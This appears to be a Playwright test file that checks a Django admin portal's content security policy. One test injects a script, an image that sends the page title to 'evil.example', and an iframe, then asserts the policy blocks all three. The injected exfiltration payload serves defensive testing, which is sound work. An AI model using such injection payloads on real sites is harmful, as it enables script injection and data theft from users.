"""The content security policy in Chromium: it stops what it should, and the portal's pages need nothing that it stops.

Every page of every model is looked at by test_accessible, whose window fails at the first thing that is refused.
"""

import pytest
from django.contrib.auth.models import User
from django.db import transaction
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import POLICY
from tests.browser.test_admin import log_in

pytestmark = pytest.mark.django_db(transaction=True)


def test_pages_of_no_model(page: Page, superuser: User) -> None:
    for address in ("login/", "forgotten/", "forgotten/asked/", "choose-password/MQ/x/", "login/code/"):
        page.goto(f"/admin/{address}")
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), address
    log_in(page, "admin", "secret")
    for address in ("", "why/", "second-factor/", "password_change/", "nothing/", "auth/user/add/"):
        page.goto(f"/admin/{address}")
        page.wait_for_load_state("networkidle")
    page.goto("/nothing")
    expect(page.get_by_role("heading", name="Not found")).to_be_visible()


def test_the_api_to_read_and_to_try(page: Page, superuser: User) -> None:
    log_in(page, "admin", "secret")
    page.goto("/api/v1/docs/")
    # The description is made anew for each reader.
    page.locator(".opblock-summary").first.click(timeout=30_000)
    page.get_by_role("button", name="Try it out").first.click()
    page.wait_for_load_state("networkidle")


def test_it_stops_what_it_should(browser: Browser, live_server: object) -> None:
    """Somebody's script that got into a page does not run, and sends nothing anywhere."""
    with transaction.atomic():
        User.objects.create_superuser("admin", "admin@example.com", "secret")
    page = browser.new_context(base_url=str(live_server)).new_page()
    refused: list[str] = []
    page.on("console", lambda said: refused.append(said.text) if POLICY in said.text else None)
    log_in(page, "admin", "secret")
    assert refused == []
    page.evaluate(
        """() => {
            const script = document.createElement('script');
            script.textContent = 'window.ran = true';
            document.body.append(script);
            const image = document.createElement('img');
            image.src = 'https://evil.example/?' + document.title;
            document.body.append(image);
            const frame = document.createElement('iframe');
            frame.src = 'https://evil.example/';
            document.body.append(frame);
        }"""
    )
    page.wait_for_timeout(200)
    assert page.evaluate("window.ran") is None
    assert len(refused) >= 3
    page.context.close()
